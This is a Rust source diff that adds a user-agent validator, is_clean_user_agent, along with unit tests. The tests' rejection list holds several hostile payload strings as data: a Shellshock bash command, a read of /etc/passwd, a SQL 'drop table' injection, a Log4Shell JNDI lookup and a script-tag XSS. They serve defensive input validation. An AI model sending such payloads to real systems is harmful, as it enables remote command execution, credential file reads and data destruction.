@@ -350,6 +350,41 @@ pub fn is_plain(s: &str) -> bool {
         .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'@' | b'+' | b'-' | b','))
 }
 
+/// Whether a user agent is only products (`name/version`) and comments
+/// (`(...)`) of letters, digits, spaces and `. _ ; , + -`: no quote, slash in
+/// a comment, `$`, `<`, `:` or operator that any payload needs.
+pub fn is_clean_user_agent(ua: &str) -> bool {
+    let mut depth = 0u8;
+    let mut slash_in_product = false;
+    for b in ua.bytes() {
+        match b {
+            b'(' => {
+                if depth > 0 {
+                    return false;
+                }
+                depth = 1;
+            }
+            b')' => {
+                if depth == 0 {
+                    return false;
+                }
+                depth = 0;
+            }
+            b'/' if depth == 0 => {
+                if slash_in_product {
+                    return false;
+                }
+                slash_in_product = true;
+            }
+            b' ' if depth == 0 => slash_in_product = false,
+            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'.' | b'_' | b'-' | b'+' => {}
+            b';' | b',' | b' ' if depth > 0 => {}
+            _ => return false,
+        }
+    }
+    depth == 0
+}
+
 /// A lazily compiled regex.
 pub(crate) struct Lazy(OnceLock<regex::Regex>, &'static str);
 
@@ -425,5 +460,32 @@ pub(crate) mod test_util {
             ascii: ascii_mask(&lower),
             triggers: triggers(&lower),
         })
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::is_clean_user_agent;
+
+    #[test]
+    fn clean_user_agents() {
+        for ua in [
+            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
+            "okhttp/4.12.0",
+            "Stripe/v1 PythonBindings/7.1.0",
+        ] {
+            assert!(is_clean_user_agent(ua), "{ua}");
+        }
+        for ua in [
+            "() { :; }; /bin/bash -c id",
+            "Mozilla/5.0 (X11; cat /etc/passwd)",
+            "Mozilla/5.0'; drop table x--",
+            "${jndi:ldap://x/a}",
+            "<script>alert(1)</script>",
+            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+            "curl/8.5.0/x",
+        ] {
+            assert!(!is_clean_user_agent(ua), "{ua}");
+        }
     }
 }
